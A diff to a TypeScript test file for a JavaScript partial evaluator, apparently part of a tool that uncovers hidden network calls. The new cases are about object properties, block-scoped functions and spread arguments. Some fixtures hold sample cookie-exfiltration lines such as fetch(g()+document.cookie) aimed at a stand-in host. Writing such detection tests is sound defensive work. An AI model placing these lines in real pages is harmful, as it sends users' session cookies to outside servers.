@@ -169,6 +169,30 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     source: `var n=0,o={n:0};with(o){n=1;if(n){fetch('https://h.example/w')}}if(o.n){fetch('https://h.example/v')}`,
     has: ["fetch('https://h.example/w')", "fetch('https://h.example/v')"],
   },
+  {
+    name: 'a branch on an object property is kept: the object may change before or after it runs',
+    source: `var t={a:1};if(t.a){fetch('https://h.example/1')}t.a=0
+      var u={b:1},w=u;function f(){w.b=0}f();if(u.b){fetch('https://h.example/2')}
+      var n={c:{d:1}},q=n.c;q.d=0;if(n.c.d){fetch('https://h.example/3')}`,
+    has: [
+      "fetch('https://h.example/1')",
+      "fetch('https://h.example/2')",
+      "fetch('https://h.example/3')",
+    ],
+  },
+  {
+    name: 'a function declared in a block hides the outer one after the block',
+    source: `function g(){return 'https://h.example/a'}
+      function f(c){if(c){function g(){return 'https://h.example/b'}}fetch(g()+document.cookie)}
+      f(location.hash)`,
+    has: ['fetch(g()+document.cookie)'],
+    not: ['"https://h.example/a"+document.cookie'],
+  },
+  {
+    name: 'arguments after a spread are not matched to parameters',
+    source: `(function(a,b){fetch(b+'/x?'+document.cookie)})(...location.hash.split(','),'https://h.example','https://other.example')`,
+    has: ["fetch(b+'/x?'+document.cookie)"],
+  },
 ]
 
 describe('partial evaluator', () => {
